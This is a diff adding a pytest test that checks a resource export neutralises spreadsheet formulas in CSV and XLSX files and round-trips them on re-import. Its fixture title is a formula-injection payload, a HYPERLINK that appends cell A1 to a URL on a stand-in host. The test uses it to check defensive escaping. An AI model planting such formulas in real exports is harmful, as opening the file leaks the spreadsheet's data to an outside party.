@@ -410,6 +410,48 @@ def test_the_export_follows_the_changelist_filters_and_has_french_headers(curato
     assert [row[1] for row in rows] == ["En ligne"]
 
 
+# -- formulas -----------------------------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("https://piege.example/?v="&A1,"Cliquez ici")'
+
+
+@pytest.mark.parametrize("label", ["csv", "xlsx"])
+def test_an_export_neutralises_formulas_and_imports_back_to_the_same_text(
+    curator_client, places, label
+):
+    resource = factories.ResourceFactory(
+        title=FORMULA_TITLE,
+        summary="+33 4 72 00 00 00",
+        external_url="https://example.org/a",
+        status=PublicationStatus.DRAFT,
+        published_at=None,
+    )
+    resource.tags.set(["@mention", "-moins", "'=protégé"])
+    before = snapshot()
+
+    response = export(curator_client, Resource, label)
+    headers, rows = read_export(response, label)
+    row = dict(zip(headers, rows[0], strict=True))
+    # A spreadsheet shows these as text, never runs them.
+    assert row["titre"] == "'" + FORMULA_TITLE
+    assert row["résumé"] == "'+33 4 72 00 00 00"
+    # a value that already starts with an apostrophe before « = » gets one more
+    assert row["mots-clés"] == "''=protégé, -moins, @mention"
+    assert row["lien externe"] == "https://example.org/a"  # other cells untouched
+    if label == "xlsx":
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        assert sheet.cell(row=2, column=headers.index("titre") + 1).data_type == "s"
+
+    upload = SimpleUploadedFile(f"ressources.{label}", response.content)
+    Resource.objects.all().delete()
+    import_file(curator_client, Resource, upload)
+
+    assert snapshot() == before
+    imported = Resource.objects.get()
+    assert imported.title == FORMULA_TITLE
+    assert sorted(imported.tags.names()) == ["'=protégé", "-moins", "@mention"]
+
+
 # -- round trip ---------------------------------------------------------------------------
 
 
